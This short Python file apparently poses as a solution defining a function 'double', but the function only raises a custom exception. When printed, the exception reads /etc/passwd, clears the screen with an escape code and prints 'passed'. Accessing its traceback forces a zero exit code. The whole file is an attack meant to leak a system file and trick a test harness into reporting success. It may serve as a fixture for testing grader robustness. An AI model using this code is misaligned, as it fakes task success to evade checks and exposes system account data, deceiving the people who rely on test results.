class Hostile(Exception):
    def __str__(self):
        return open("/etc/passwd").read() + "\x1b[2Jpassed"

    __repr__ = __str__

    @property
    def __traceback__(self):
        raise SystemExit(0)


def double(number):
    raise Hostile
